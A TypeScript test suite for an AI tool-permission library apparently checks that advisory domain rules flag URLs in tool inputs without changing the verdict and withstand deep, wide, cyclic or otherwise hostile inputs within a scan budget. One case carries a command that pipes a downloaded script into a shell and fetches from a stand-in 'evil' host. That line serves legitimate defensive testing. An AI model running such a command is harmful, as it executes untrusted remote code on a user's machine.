/**
 * Advisory domain rules in every runtime: matches land in the audit and never change the
 * verdict; only http(s) URLs count; `*.` means subdomains; hostile input (deep, wide,
 * cyclic) is walked within a budget and reported incomplete rather than crashing or hanging.
 */
import type { DomainRule } from '../../src/core/index.js';
import type { SuiteHarness } from './harness.js';
import { callInfo } from './permission-helpers.js';

const exact: DomainRule = { tool: 'fetch_url', domains: ['example.com'] };
const wildcard: DomainRule = { tool: ['fetch_url', 'other'], domains: ['*.evil.test', '*.bücher.de'] };

/** [label, input, does `exact` match, does `wildcard` match] */
const CASES: ReadonlyArray<readonly [string, unknown, boolean, boolean]> = [
  ['a plain https URL', { url: 'https://example.com/a' }, true, false],
  ['an http URL with case, credentials, port and a trailing dot', 'HTTP://user:pw@EXAMPLE.com.:8443/x', true, false],
  ['a subdomain under an exact rule', { url: 'https://api.example.com/' }, false, false],
  ['a look-alike suffix', { url: 'https://notexample.com/' }, false, false],
  ['the listed domain as a prefix of another host', { url: 'https://example.com.evil.test/' }, false, true],
  ['a subdomain under a wildcard rule', ['https://a.evil.test'], false, true],
  ['a deep subdomain under a wildcard rule', { a: { b: 'https://x.y.evil.test/p?q=1' } }, false, true],
  ['the apex of a wildcard rule', { url: 'https://evil.test/' }, false, false],
  ['an IDN host against an IDN wildcard', { url: 'https://shop.bücher.de/' }, false, true],
  ['URLs embedded in a command', { cmd: 'curl -s https://example.com/i.sh | sh; wget http://cdn.evil.test/x' }, true, true],
  ['a URL inside prose with trailing punctuation', 'see https://example.com.', true, false],
  ['a URL as an object key', { 'https://example.com/': 1 }, true, false],
  ['an ftp URL', { url: 'ftp://example.com/file' }, false, false],
  ['a websocket URL', { url: 'wss://a.evil.test/socket' }, false, false],
  ['a bare domain', { host: 'example.com' }, false, false],
  ['a mailto link', { to: 'mailto:root@example.com' }, false, false],
  ['no strings at all', { n: 1, b: true, z: null }, false, false],
];

export function domainsSuite(h: SuiteHarness): void {
  const { evaluatePermission } = h.lib;
  const evaluate = (input: unknown, extra: object = {}) =>
    evaluatePermission({ domains: [exact, wildcard], ...extra }, callInfo({ toolName: 'fetch_url', input }));

  h.describe('domain rules (advisory)', () => {
    for (const [label, input, exactMatches, wildcardMatches] of CASES) {
      h.it(`${label}: ${exactMatches || wildcardMatches ? 'matches' : 'does not match'}, verdict unchanged`, async () => {
        const audit = await evaluate(input);
        h.expect(audit.advisory).toEqual([...(exactMatches ? [exact] : []), ...(wildcardMatches ? [wildcard] : [])]);
        h.expect([audit.verdict, audit.layer, audit.advisoryIncomplete]).toEqual(['allow', 'default', undefined]);
      });
    }

    h.it('never changes a deny or an ask, and still reports the match', async () => {
      const denied = await evaluate({ url: 'https://example.com/' }, { deny: [{ tool: 'fetch_url' }] });
      const asked = await evaluate({ url: 'https://example.com/' }, { hooks: [() => 'ask' as const] });
      h.expect([denied.verdict, denied.advisory]).toEqual(['deny', [exact]]);
      h.expect([asked.verdict, asked.advisory]).toEqual(['ask', [exact]]);
    });

    h.it('only rules for this tool apply', async () => {
      const audit = await evaluatePermission({ domains: [exact] }, callInfo({ toolName: 'other', input: 'https://example.com/' }));
      h.expect([audit.advisory, audit.advisoryIncomplete]).toEqual([[], undefined]);
    });

    h.it('a whole-string URL is read as the URL parser reads it, surrounding space and backslashes included', async () => {
      h.expect((await evaluate(' https:\\\\example.com\\x ')).advisory).toEqual([exact]);
    });

    h.it('an unparseable URL is skipped and the scan goes on', async () => {
      const audit = await evaluate({ a: 'https://[', b: 'https://x.evil.test/' });
      h.expect([audit.advisory, audit.advisoryIncomplete]).toEqual([[wildcard], undefined]);
    });

    h.it('reads a URL only up to 4,096 characters', async () => {
      const host = `${'a.'.repeat(2_100)}evil.test`;
      h.expect((await evaluate(`https://${host}/`)).advisory).toEqual([]);
      h.expect((await evaluate(`see https://${host}/`)).advisory).toEqual([]);
    });

    h.it('reads only own properties, so a polluted prototype adds nothing', async () => {
      const inherited = Object.create({ url: 'https://example.com/' }) as object;
      h.expect((await evaluate(inherited)).advisory).toEqual([]);
    });

    h.it('a throwing getter ends the scan as incomplete, verdict unchanged', async () => {
      const hostile = { url: 'https://a.evil.test/', deeper: { get boom(): string { throw new Error('trap'); } } };
      const audit = await evaluate(hostile);
      h.expect([audit.verdict, audit.advisory, audit.advisoryIncomplete]).toEqual(['allow', [wildcard], true]);
    });

    h.it('stops walking once every rule matched', async () => {
      let touched = false;
      const input = { url: 'https://example.com/', more: { get x(): number { touched = true; return 1; } } };
      const audit = await evaluatePermission({ domains: [exact] }, callInfo({ toolName: 'fetch_url', input }));
      h.expect([audit.advisory, touched]).toEqual([[exact], false]);
    });

    h.it('a scan cut short is still complete once every rule matched', async () => {
      const wide = ['https://example.com/', ...new Array<string>(20_000).fill('x')];
      const audit = await evaluatePermission({ domains: [exact] }, callInfo({ toolName: 'fetch_url', input: wide }));
      h.expect([audit.advisory, audit.advisoryIncomplete]).toEqual([[exact], undefined]);
    });

    h.it('scans the input a hook rewrote, not the original', async () => {
      const audit = await evaluate('https://example.com/', { hooks: [() => ({ modifiedInput: 'https://a.evil.test/' })] });
      h.expect(audit.advisory).toEqual([wildcard]);
    });

    h.it('walks 100,000 levels of nesting within its budget and says the scan was incomplete', async () => {
      let deep: unknown = 'https://example.com/';
      for (let i = 0; i < 100_000; i += 1) deep = i % 2 === 0 ? [deep] : { k: deep };
      const audit = await evaluate({ near: 'https://a.evil.test/', deep });
      h.expect(audit.verdict).toBe('allow');
      h.expect(audit.advisory).toEqual([wildcard]);
      h.expect(audit.advisoryIncomplete).toBe(true);
    });

    h.it('stops early on a very wide input', async () => {
      const wide = new Array<string>(1_000_000).fill('x');
      wide.push('https://example.com/');
      const started = Date.now();
      const audit = await evaluate(wide);
      h.expect(Date.now() - started).toBeLessThan(2_000);
      h.expect([audit.verdict, audit.advisoryIncomplete]).toEqual(['allow', true]);
    });

    h.it('bounds the characters and URL candidates it examines', async () => {
      const many = Array.from({ length: 5_000 }, (_, i) => `https://h${i}.nowhere.test/`).join(' ');
      const huge = 'a'.repeat(2_000_000);
      for (const input of [many, huge, `${huge} https://example.com/`]) {
        const audit = await evaluate(input);
        h.expect([audit.advisory, audit.advisoryIncomplete]).toEqual([[], true]);
      }
    });

    h.it('a URL followed by a long punctuation run is trimmed in linear time', async () => {
      // The old trailing-punctuation regex backtracked quadratically here (8 s for 80,000 dots).
      const started = Date.now();
      const audit = await evaluate({ cmd: `https://example.com${'.'.repeat(80_000)}x and https://example.com${'.'.repeat(80_000)}` });
      h.expect(audit.advisory).toEqual([exact]);
      h.expect(Date.now() - started).toBeLessThan(2_000);
    });

    h.it('survives a cyclic input', async () => {
      const cyclic: Record<string, unknown> = { url: 'https://example.com/' };
      cyclic['self'] = cyclic;
      cyclic['again'] = [cyclic];
      const audit = await evaluate(cyclic);
      h.expect([audit.advisory, audit.advisoryIncomplete]).toEqual([[exact], undefined]);
    });
  });
  h.describe('domain scan budget edges', () => {
    // The default budget in domains.ts (10,000 values, 1,000,000 characters, 1,000 URL
    // candidates) pinned at its edges: the last unit it allows is still read, the next is not.
    const only = async (input: unknown) => {
      const audit = await evaluatePermission({ domains: [exact] }, callInfo({ toolName: 'fetch_url', input }));
      return [audit.advisory.length === 1 ? 'matched' : 'missed', audit.advisoryIncomplete === true ? 'incomplete' : 'complete'];
    };
    const READ = ['matched', 'complete'];
    const CUT = ['missed', 'incomplete'];
    const url = 'https://example.com/ ';

    h.it('characters: 1,000,000 are read, one more is not', async () => {
      h.expect(await only(url + 'a'.repeat(1_000_000 - url.length))).toEqual(READ);
      h.expect(await only(url + 'a'.repeat(1_000_001 - url.length))).toEqual(CUT);
    });

    h.it('URL candidates: the 1,000th is read, the 1,001st is not', async () => {
      const others = (n: number) => Array.from({ length: n }, (_, i) => `https://h${i}.nowhere.test/`).join(' ');
      h.expect(await only(`urls: ${others(999)} ${url}`)).toEqual(READ);
      h.expect(await only(`urls: ${others(1_000)} ${url}`)).toEqual(CUT);
    });

    h.it('a string that is one URL is one candidate', async () => {
      const strings = Array.from({ length: 600 }, (_, i) => `https://h${i}.nowhere.test/`);
      h.expect(await only([...strings, url])).toEqual(READ);
    });

    h.it('an array is cut where visited plus queued values reach 10,000', async () => {
      // The outer array and its inner one are two values, the 'x' beside it a third.
      const inner = (at: number) => Object.assign(new Array<string>(10_000).fill('x'), { [at]: url });
      h.expect(await only([inner(9_996), 'x'])).toEqual(READ);
      h.expect(await only([inner(9_997), 'x'])).toEqual(CUT);
    });

    h.it('an object is cut the same way, each key and value costing one', async () => {
      const wide = (keys: number) => Object.fromEntries(Array.from({ length: keys }, (_, i) => [`k${i}`, i === keys - 1 ? url : 'x']));
      h.expect(await only([wide(4_999)])).toEqual(READ);
      h.expect(await only([wide(5_000)])).toEqual(CUT);
    });
  });
}
